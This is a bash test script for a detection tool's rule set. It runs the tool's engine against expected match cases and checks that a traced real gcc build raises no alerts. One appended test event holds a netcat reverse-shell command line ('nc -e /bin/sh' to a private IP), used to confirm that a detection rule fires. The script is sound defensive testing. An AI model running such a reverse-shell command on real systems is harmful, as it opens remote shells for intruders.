#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0
# check.sh - whorl's shipped rules against the events each must and must not match
# (rules/tests/expect.jsonl: {"rule": FILE, "match": BOOL, "why": ..., "event": {...}}), through
# the tool's own engine (`whorl rules match`); every rule must load and have both kinds of case.
# TAP on stdout.
#   rules/tests/check.sh [WHORL]
set -uo pipefail
here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
rules=$here/..
whorl=${1:-$here/../../userspace/whorl}
n=0
fail=0
ok() { n=$((n + 1)); echo "ok $n - $1"; }
not_ok() { n=$((n + 1)); fail=$((fail + 1)); echo "not ok $n - $1"; [ -z "${2:-}" ] || echo "# $2"; }

if out=$("$whorl" rules check "$rules" 2>&1); then
	ok "every shipped rule loads: $(echo "$out" | tail -n 1)"
else
	not_ok "every shipped rule loads" "$(echo "$out" | tr '\n' ' ')"
fi
for f in "$rules"/*.yml; do
	r=${f##*/}
	for want in true false; do
		if grep -q "\"rule\": \"$r\", \"match\": $want" "$here/expect.jsonl"; then
			ok "$r has a case that must ${want/false/not }match"
		else
			not_ok "$r has a case that must ${want/false/not }match"
		fi
	done
done
while IFS= read -r line; do
	r=$(python3 -c 'import json,sys; print(json.loads(sys.argv[1])["rule"])' "$line")
	want=$(python3 -c 'import json,sys; print(str(json.loads(sys.argv[1])["match"]).lower())' "$line")
	why=$(python3 -c 'import json,sys; print(json.loads(sys.argv[1])["why"])' "$line")
	event=$(python3 -c 'import json,sys; print(json.dumps(json.loads(sys.argv[1])["event"]))' "$line")
	got=$(echo "$event" | "$whorl" rules match "$rules/$r" 2>&1 | grep -c '^{')
	if { [ "$want" = true ] && [ "$got" = 1 ]; } || { [ "$want" = false ] && [ "$got" = 0 ]; }; then
		ok "$r: $why"
	else
		not_ok "$r: $why" "expected match=$want, got $got match(es) for $event"
	fi
done <"$here/expect.jsonl"
# Silence on a real build: make, gcc (cc1, as, collect2, ld) and ar building a program and a
# library, traced with strace; its execs, as the relay would see them, must match no shipped rule
# nor any SigmaHQ rule (../shared) at the relay's default level (medium and above). The same
# stream with one netcat -e appended must give that one match: the check can fail.
sigma=${WHORL_SIGMA_DIR:-$here/../../../shared/sigma/linux-process-creation}
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
mkdir -p "$work/src"
printf 'int twice(int x) { return 2 * x; }\n' >"$work/src/util.c"
printf '#include <stdio.h>\nint twice(int x);\nint main(void) { printf("%%d\\n", twice(21)); return 0; }\n' \
	>"$work/src/main.c"
printf 'app: main.o libutil.a\n\t$(CC) -o $@ main.o -L. -lutil\nlibutil.a: util.o\n\tar rcs $@ util.o\n%%.o: %%.c\n\t$(CC) -O2 -Wall -c -o $@ $<\n' \
	>"$work/src/Makefile"
if (cd "$work/src" && strace -f -qq -s 4096 -e trace=execve,fork,vfork,clone,clone3 \
	-o "$work/trace" make -s CC=gcc >/dev/null 2>&1) && [ -x "$work/src/app" ]; then
	python3 "$here/build_events.py" "$work/trace" "$work/src" root >"$work/events.jsonl"
	nexec=$(grep -c . "$work/events.jsonl")
	tools=$(python3 -c 'import json,sys,os; print(" ".join(sorted({os.path.basename(json.loads(l)["Image"]) for l in open(sys.argv[1])})))' "$work/events.jsonl")
	if [ "$nexec" -ge 8 ] && echo "$tools" | grep -q cc1 && echo "$tools" | grep -q ld; then
		ok "a real gcc build traced: $nexec execs ($tools)"
	else
		not_ok "a real gcc build traced" "$nexec execs: $tools"
	fi
	set -- "$rules"
	[ -d "$sigma" ] && set -- "$@" "$sigma"
	loud() { "$whorl" rules match "$@" --events "$work/events.jsonl" 2>/dev/null |
		grep -E '"severity":"(MEDIUM|HIGH|CRITICAL)"'; }
	if out=$(loud "$@"); then
		not_ok "the build is silent with $*" "$(echo "$out" | cut -c1-400)"
	else
		ok "the build is silent with $* (medium and above)"
	fi
	printf '%s\n' '{"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.9 4444", "ParentImage": "/usr/bin/make"}' \
		>>"$work/events.jsonl"
	got=$(loud "$rules" | grep -c 'Netcat Remote Code Execution')
	if [ "$got" = 1 ]; then
		ok "the same stream with netcat -e appended gives that one finding"
	else
		not_ok "the same stream with netcat -e appended gives that one finding" "got $got"
	fi
else
	not_ok "a real gcc build traced" "make under strace failed (gcc, make and strace: tests/deps.sh)"
fi
echo "1..$n"
[ "$fail" -eq 0 ]
